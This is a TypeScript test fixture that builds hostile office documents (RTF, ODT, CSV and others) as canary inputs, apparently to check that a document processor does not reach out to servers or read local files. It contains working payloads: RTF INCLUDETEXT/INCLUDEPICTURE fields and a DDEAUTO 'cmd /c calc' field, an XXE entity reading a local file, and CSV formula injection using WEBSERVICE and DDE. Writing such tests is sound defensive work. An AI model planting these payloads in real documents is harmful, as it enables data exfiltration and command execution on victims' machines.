import { odfOf } from "../samples/office-packages.ts";
import type { BadInput } from "./bad-input.ts";
import type { Bait } from "./canary.ts";
import { macroDocument, presentation, spreadsheet, textDocument } from "./reaching-odf.ts";
import { slides, wordDocument, workbook } from "./reaching-ooxml.ts";

/** Documents whose parts lie elsewhere: on a server, or in a neighbour's folder. Each says `still`. */

function richText({ address, secret }: Bait): Buffer {
  const picture = (target: string) =>
    `{\\field{\\*\\fldinst INCLUDEPICTURE "${target}" \\\\d}{\\fldrslt old}}`;
  const text = (target: string) => `{\\field{\\*\\fldinst INCLUDETEXT "${target}"}{\\fldrslt old}}`;
  return Buffer.from(
    `{\\rtf1{\\*\\template ${address}/t.dot}still ${picture(`${address}/a.png`)}${picture(secret)}${text(secret)}${text(`${address}/b`)}{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt old}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}{\\result old}}{\\subdocument ${secret}}}`,
  );
}

const document = (
  id: string,
  type: BadInput["type"],
  build: (bait: Bait) => Buffer,
  ...more: BadInput["answers"]
): BadInput => ({ id, type, build, answers: ["completes", ...more] });

export const reachingDocuments: readonly BadInput[] = [
  document("a DOCX that reaches out", "docx", wordDocument),
  document("an XLSX that reaches out", "xlsx", workbook),
  document("a PPTX that reaches out", "pptx", slides),
  document("an ODT that reaches out", "odt", textDocument),
  document("an ODS that reaches out", "ods", spreadsheet),
  document("an ODP that reaches out", "odp", presentation),
  document("an RTF that reaches out", "rtf", richText),
  document("an ODT with a macro at its opening", "odt", macroDocument),
  document(
    "an ODT with a file as an entity",
    "odt",
    ({ address, secret }) =>
      odfOf("text", "<text:p>still</text:p><text:p>&a;&b;</text:p>", {
        prolog: `<!DOCTYPE d [<!ENTITY a SYSTEM "file://${secret}"><!ENTITY b SYSTEM "${address}/b">]>`,
      }),
    "corrupt",
  ),
  document("a CSV of formulas", "csv", ({ address, secret }) =>
    Buffer.from(
      `still,b\n=1+1,"=WEBSERVICE(""${address}/a"")"\n=cmd|'/c calc'!A0,='file://${secret}'#$S.A1\n`,
    ),
  ),
];
